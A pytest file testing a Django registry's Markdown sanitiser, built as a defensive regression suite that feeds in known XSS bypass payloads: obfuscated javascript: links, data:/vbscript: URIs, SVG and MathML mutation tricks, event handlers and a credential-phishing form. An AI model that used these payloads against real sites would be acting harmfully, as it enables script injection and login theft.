"""Tests for registry.markdown.render_markdown and the ``markdown`` template filter.

No database needed. The XSS cases are regression tests for well-known
sanitiser bypasses; each checks the dangerous thing is gone and, where it
makes sense, that the harmless part (link text, surrounding paragraph)
survives.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from registry.markdown import render_markdown

ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6",
    "strong", "em", "b", "i", "code", "pre", "blockquote",
    "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td",
    "sup", "sub", "del",
}  # fmt: skip
ALLOWED_ATTRS = {
    "a": {"href", "title", "rel"},
    "th": {"align"},
    "td": {"align"},
    "code": {"class"},
}
SAFE_SCHEMES = ("http:", "https:", "mailto:")


class _Collector(HTMLParser):
    """Collect (tag, attrs) for every start tag, after HTML entity decoding."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def parse(html: str) -> _Collector:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector


def hrefs(html: str) -> list[str]:
    return [attrs["href"] for tag, attrs in parse(html).elements if tag == "a" and "href" in attrs]


def browser_scheme(url: str) -> str | None:
    """The scheme a browser would see (WHATWG: strip C0/space at ends, drop tab/LF/CR)."""
    url = re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(0x21))))
    match = re.match(r"([A-Za-z][A-Za-z0-9+.\-]*):", url)
    return match.group(1).lower() if match else None


def assert_policy(html: str) -> None:
    """Every element/attribute is on the allow-list and no href has an unsafe scheme."""
    for tag, attrs in parse(html).elements:
        assert tag in ALLOWED_TAGS, f"disallowed tag <{tag}> in {html!r}"
        for name in attrs:
            assert name in ALLOWED_ATTRS.get(tag, set()), f"disallowed {name}= on <{tag}> in {html!r}"
        if tag == "a":
            assert attrs.get("rel") == "nofollow noopener"
            href = attrs.get("href")
            if href is not None:
                assert browser_scheme(href) in {None, "http", "https", "mailto"}, href


def assert_no_href(html: str, text: str) -> None:
    """The link survives as text (with rel) but has no href at all."""
    assert_policy(html)
    assert hrefs(html) == []
    assert text in "".join(parse(html).text)
    assert "javascript" not in html.lower()


# --------------------------------------------------------------------------- empty input


@pytest.mark.parametrize("value", [None, ""])
def test_none_and_empty_render_to_empty_string(value):
    result = render_markdown(value)
    assert result == ""
    assert type(result) is str


def test_returns_plain_str_not_safestring():
    result = render_markdown("*hi*")
    assert type(result) is str


# --------------------------------------------------------------------------- raw HTML XSS


def test_script_tag_and_content_removed():
    html = render_markdown("before\n\n<script>alert(1)</script>\n\nafter")
    assert "<script" not in html.lower()
    assert "alert" not in html
    assert "before" in html and "after" in html
    assert_policy(html)


def test_inline_script_tag_and_content_removed():
    html = render_markdown("hello <script>alert(1)</script> world")
    assert "script" not in html.lower()
    assert "alert" not in html
    assert "hello" in html and "world" in html


def test_img_onerror_removed():
    html = render_markdown("text <img src=x onerror=alert(1)> more")
    assert "onerror" not in html
    assert "alert" not in html
    assert "<img" not in html
    assert "text" in html and "more" in html
    assert_policy(html)


def test_raw_anchor_javascript_href_removed():
    assert_no_href(render_markdown('<a href="javascript:alert(1)">x</a>'), "x")


@pytest.mark.parametrize(
    "markdown",
    [
        "[x](javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x][ref]\n\n[ref]: javascript:alert(1)",
        "<javascript:alert(1)>",
    ],
    ids=["inline", "angle-brackets", "reference", "autolink"],
)
def test_markdown_javascript_link_removed(markdown):
    html = render_markdown(markdown)
    assert_policy(html)
    assert hrefs(html) == []
    assert "javascript:" not in html.lower()


@pytest.mark.parametrize(
    "href",
    [
        "JaVaScRiPt:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(1)",
        "\u0001javascript:alert(1)",
        "java\tscript:alert(1)",
        "java&#9;script:alert(1)",
        "java&Tab;script:alert(1)",
        "java&#10;script:alert(1)",
        "java&NewLine;script:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "&#X6a;avascript:alert(1)",
        "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
        "javascript&colon;alert(1)",
        "javascript&#58;alert(1)",
        "javascript&#x3a;alert(1)",
    ],
)
@pytest.mark.parametrize("form", ["html", "markdown"])
def test_obfuscated_javascript_href_removed(href, form):
    source = f'<a href="{href}">click</a>' if form == "html" else f"[click]({href})"
    html = render_markdown(source)
    assert_policy(html)
    for url in hrefs(html):
        assert browser_scheme(url) is None or browser_scheme(url) in {"http", "https", "mailto"}
        # Whatever is left must not spell javascript: even after whitespace removal (entities
        # that Markdown escaped to &amp;... stay literal text in the browser, so no colon).
        assert "javascript:" not in re.sub(r"\s", "", url).lower()
    assert "click" in html


@pytest.mark.parametrize(
    "href",
    [
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:text/html,<script>alert(1)</script>",
        "DATA:text/html,x",
        "vbscript:msgbox(1)",
        "VBScript:msgbox(1)",
        "file:///etc/passwd",
        "ftp://example.org/",
    ],
)
def test_other_unsafe_schemes_removed(href):
    raw = render_markdown(f'<a href="{href}">link</a>')
    md = render_markdown(f"[link]({href})")
    for html in (raw, md):
        assert_policy(html)
        assert hrefs(html) == []
        assert "link" in html


def test_svg_onload_removed():
    html = render_markdown("<svg onload=alert(1)>hi</svg>")
    assert "svg" not in html.lower()
    assert "onload" not in html
    assert "alert" not in html
    assert_policy(html)


def test_svg_nested_script_removed():
    html = render_markdown("<svg><script>alert(1)</script></svg> ok")
    assert "svg" not in html.lower()
    assert "script" not in html.lower()
    assert "alert" not in html
    assert_policy(html)


def test_svg_animate_href_removed():
    html = render_markdown('<svg><a><animate attributeName=href values="javascript:alert(1)"/>x</a></svg>')
    assert "animate" not in html
    assert "javascript" not in html.lower()
    assert_policy(html)


def test_iframe_removed():
    html = render_markdown('<iframe src="https://evil.example/"></iframe>\n\nkept')
    assert "iframe" not in html.lower()
    assert "evil.example" not in html
    assert "kept" in html
    assert_policy(html)


def test_iframe_srcdoc_removed():
    html = render_markdown('<iframe srcdoc="<script>alert(1)</script>"></iframe>')
    assert "iframe" not in html.lower()
    assert "srcdoc" not in html
    assert "<script" not in html.lower()
    assert_policy(html)


def test_object_and_embed_removed():
    html = render_markdown(
        '<object data="https://evil.example/x.swf"></object>\n\n<embed src="https://evil.example/x.swf">'
    )
    assert "object" not in html.lower()
    assert "embed" not in html.lower()
    assert "evil.example" not in html
    assert_policy(html)


def test_style_tag_and_content_removed():
    html = render_markdown("<style>body { background: url(javascript:alert(1)) }</style>\n\nvisible")
    assert "style" not in html.lower()
    assert "background" not in html
    assert "visible" in html
    assert_policy(html)


def test_form_and_input_removed():
    html = render_markdown(
        '<form action="https://evil.example/steal" method="post">'
        '<input name="password" type="password"><button>Log in</button></form>'
    )
    for bad in ("<form", "<input", "<button", "action=", "evil.example"):
        assert bad not in html.lower()
    assert_policy(html)


def test_style_attribute_removed():
    html = render_markdown('<p style="position:fixed;top:0;left:0;width:100%">overlay</p>')
    assert "style" not in html
    assert "position" not in html
    assert "<p>overlay</p>" in html


def test_style_attribute_removed_from_link_but_link_kept():
    html = render_markdown('<a href="https://example.org/" style="color:red">x</a>')
    assert "style" not in html
    assert hrefs(html) == ["https://example.org/"]
    assert_policy(html)


@pytest.mark.parametrize(
    "source",
    [
        '<p onclick="alert(1)">text</p>',
        '<a href="https://example.org/" onclick="alert(1)" onmouseover="alert(2)">text</a>',
        '<strong onmouseover="alert(1)">text</strong>',
        '<code onfocus="alert(1)" tabindex="0">text</code>',
        '<td onclick="alert(1)">text</td>',
    ],
)
def test_event_handlers_removed_from_allowed_tags(source):
    html = render_markdown(source)
    assert not re.search(r"\bon[a-z]+\s*=", html)
    assert "alert" not in html
    assert "tabindex" not in html
    assert "text" in html
    assert_policy(html)


def test_disallowed_link_attributes_removed_and_rel_forced():
    html = render_markdown(
        '<a href="https://example.org/" target="_blank" rel="opener" id="x" name="y">t</a>'
    )
    assert "target" not in html
    assert "opener" in html  # only as part of "noopener"
    assert 'rel="nofollow noopener"' in html
    assert "id=" not in html and "name=" not in html
    assert_policy(html)


@pytest.mark.parametrize(
    "source",
    [
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
        "</style></mglyph></table></mtext></math>",
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
        '<math href="javascript:alert(1)">CLICK</math>',
        "<math><maction actiontype=statusline#http://x xlink:href=javascript:alert(1)>x</maction></math>",
        '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><a title="'
        '</textarea><img src=x onerror=alert(1)>">',
    ],
)
def test_math_tricks_removed(source):
    html = render_markdown(source)
    assert "<math" not in html.lower()
    assert "<img" not in html.lower()
    assert "onerror" not in html
    assert "javascript" not in html.lower()
    assert "xlink" not in html
    assert_policy(html)


def test_noscript_mutation_trick():
    html = render_markdown('<noscript><p title="</noscript><img src=x onerror=alert(1)>">')
    assert "<img" not in html.lower()
    assert "<noscript" not in html.lower()
    assert_policy(html)


def test_attribute_breakout_in_title_is_escaped():
    html = render_markdown('<a href="https://x.example/" title="&quot;><script>alert(1)</script>">q</a>')
    assert "<script" not in html.lower()
    assert_policy(html)
    assert hrefs(html) == ["https://x.example/"]


def test_markdown_link_title_breakout_is_escaped():
    html = render_markdown('[q](https://x.example/ "a\\" onmouseover=\\"alert(1)")')
    assert_policy(html)  # would fail on an onmouseover= attribute
    (anchor,) = [attrs for tag, attrs in parse(html).elements if tag == "a"]
    assert set(anchor) == {"href", "title", "rel"}
    assert "onmouseover" in anchor["title"]  # harmless: it stayed inside the title value


def test_html_comment_removed():
    html = render_markdown("<!--[if IE]><script>alert(1)</script><![endif]-->\n\nok")
    assert "<!--" not in html
    assert "alert" not in html
    assert "ok" in html


@pytest.mark.parametrize("tag", ["meta", "link", "base", "img", "video", "audio", "div", "span", "details"])
def test_other_tags_removed(tag):
    html = render_markdown(
        f'<{tag} src="x" href="x" http-equiv="refresh" content="0;url=javascript:alert(1)">'
    )
    assert f"<{tag}" not in html.lower()
    assert "javascript" not in html.lower()
    assert_policy(html)


def test_code_class_only_language_marker():
    html = render_markdown('<code class="btn btn-danger">x</code> and <code class="language-py">y</code>')
    assert "btn" not in html
    assert '<code class="language-py">y</code>' in html
    assert_policy(html)


def test_table_align_only_known_values():
    html = render_markdown('<table><tr><td align="left">a</td><td align="javascript:x">b</td></tr></table>')
    assert 'align="left"' in html
    assert "javascript" not in html
    assert_policy(html)


# --------------------------------------------------------------------------- positive


def test_headings():
    html = render_markdown("# One\n\n## Two\n\n### Three\n\n#### Four\n\n##### Five\n\n###### Six")
    for level, word in enumerate(["One", "Two", "Three", "Four", "Five", "Six"], start=1):
        assert f"<h{level}>{word}</h{level}>" in html
    assert_policy(html)


def test_emphasis_and_inline_html_formatting():
    html = render_markdown("*em* **strong** <del>gone</del> x<sup>2</sup> H<sub>2</sub>O <b>b</b> <i>i</i>")
    for fragment in (
        "<em>em</em>",
        "<strong>strong</strong>",
        "<del>gone</del>",
        "<sup>2</sup>",
        "<sub>2</sub>",
        "<b>b</b>",
        "<i>i</i>",
    ):
        assert fragment in html
    assert_policy(html)


def test_blockquote_hr_and_line_break():
    html = render_markdown("> quoted\n\n---\n\nline one  \nline two")
    assert "<blockquote>" in html and "quoted" in html
    assert "<hr>" in html
    assert "<br>" in html
    assert_policy(html)


def test_lists():
    html = render_markdown("- a\n- b\n\n1. one\n2. two\n")
    assert "<ul>\n<li>a</li>\n<li>b</li>\n</ul>" in html
    assert "<ol>\n<li>one</li>\n<li>two</li>\n</ol>" in html
    assert_policy(html)


def test_fenced_code_content_is_escaped():
    html = render_markdown("```python\nif a < b:\n    print('<b>bold</b>')\n```")
    assert '<pre><code class="language-python">' in html
    assert "&lt;b&gt;bold&lt;/b&gt;" in html
    assert "<b>" not in html
    assert "a &lt; b" in html
    assert_policy(html)


def test_fenced_code_script_is_text_not_markup():
    html = render_markdown("```\n<script>alert(1)</script>\n```")
    assert "<script" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert_policy(html)


def test_inline_code_is_escaped():
    html = render_markdown("use `<b>` for bold")
    assert "<code>&lt;b&gt;</code>" in html
    assert_policy(html)


def test_tables_with_alignment():
    html = render_markdown("| Left | Right | Centre |\n|:-----|------:|:------:|\n| a | b | c |\n")
    assert "<table>" in html and "<thead>" in html and "<tbody>" in html
    assert '<th align="left">Left</th>' in html
    assert '<th align="right">Right</th>' in html
    assert '<th align="center">Centre</th>' in html
    assert '<td align="left">a</td>' in html
    assert "style" not in html
    assert_policy(html)


@pytest.mark.parametrize(
    "source, expected_href",
    [
        ("[site](http://example.org/)", "http://example.org/"),
        ("[site](https://example.org/path?q=1&r=2#frag)", "https://example.org/path?q=1&r=2#frag"),
        ("[mail](mailto:someone@example.org)", "mailto:someone@example.org"),
        ("<https://example.org/auto>", "https://example.org/auto"),
        ("<someone@example.org>", "mailto:someone@example.org"),
        ('<a href="HTTPS://example.org/">raw</a>', "HTTPS://example.org/"),
    ],
)
def test_safe_links_kept_with_rel(source, expected_href):
    html = render_markdown(source)
    assert hrefs(html) == [expected_href]
    assert 'rel="nofollow noopener"' in html
    assert_policy(html)


def test_link_title_kept():
    html = render_markdown('[site](https://example.org/ "The title")')
    assert 'title="The title"' in html
    assert_policy(html)


@pytest.mark.parametrize(
    "href",
    ["/entries/42/", "../other/", "page.html", "#section-2", "?page=2", "//example.org/x", "/a:b"],
)
def test_relative_links_are_kept(href):
    """Policy: relative URLs are kept as written (they carry no scheme), with rel added."""
    html = render_markdown(f"[rel]({href})")
    assert hrefs(html) == [href]
    assert 'rel="nofollow noopener"' in html
    assert_policy(html)


@pytest.mark.parametrize("href", ["java    script:alert(1)", "foo bar:baz", "x:y/z"])
def test_relative_looking_url_with_colon_in_first_segment_dropped(href):
    """A colon before the first / ? # can only be a (mangled) scheme: the href is dropped."""
    html = render_markdown(f'<a href="{href}">t</a>')
    assert hrefs(html) == []
    assert '<a rel="nofollow noopener">t</a>' in html
    assert_policy(html)


def test_plain_text_is_escaped():
    html = render_markdown("5 > 3 & 2 < 4")
    assert "&gt;" in html and "&amp;" in html and "&lt;" in html
    assert_policy(html)


# --------------------------------------------------------------------------- template filter


def test_template_filter_renders_and_sanitises():
    from django.conf import settings

    if not settings.configured:
        settings.configure()

    from django.template import Context, Engine

    engine = Engine(libraries={"registry_markup": "registry.templatetags.registry_markup"})
    template = engine.from_string("{% load registry_markup %}{{ v|markdown }}")

    html = template.render(
        Context({"v": "**bold** [x](javascript:alert(1)) <script>alert(2)</script>"}, autoescape=True)
    )
    assert "<strong>bold</strong>" in html  # not double-escaped: filter output is marked safe
    assert "javascript" not in html.lower()
    assert "<script" not in html.lower()
    assert "alert" not in html
    assert_policy(html)

    assert template.render(Context({"v": None}, autoescape=True)) == ""
    assert template.render(Context({"v": ""}, autoescape=True)) == ""


def test_template_filter_does_not_trust_safestring_input():
    from django.conf import settings

    if not settings.configured:
        settings.configure()

    from django.utils.safestring import SafeString, mark_safe

    from registry.templatetags.registry_markup import markdown_filter

    result = markdown_filter(mark_safe("<script>alert(1)</script><p onclick='x()'>hi</p>"))
    assert isinstance(result, SafeString)
    assert "script" not in result and "onclick" not in result
    assert "hi" in result
